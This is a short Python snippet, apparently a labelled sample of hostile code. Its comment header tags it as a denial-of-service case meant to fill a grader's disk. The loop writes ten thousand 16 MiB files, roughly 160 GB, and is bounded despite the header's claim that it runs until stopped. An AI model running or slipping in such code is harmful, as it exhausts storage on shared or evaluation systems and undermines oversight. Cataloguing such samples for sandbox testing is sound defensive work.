# ---
# note: writes files until it is stopped
# known_from: denial of service
# harmful: it would fill the grader's disk
# ---
# %% plain +top
for number in range(10_000):
    with open(f"canary-of-an-attacker-{number}", "wb") as file:
        file.write(bytes(16 * 2**20))
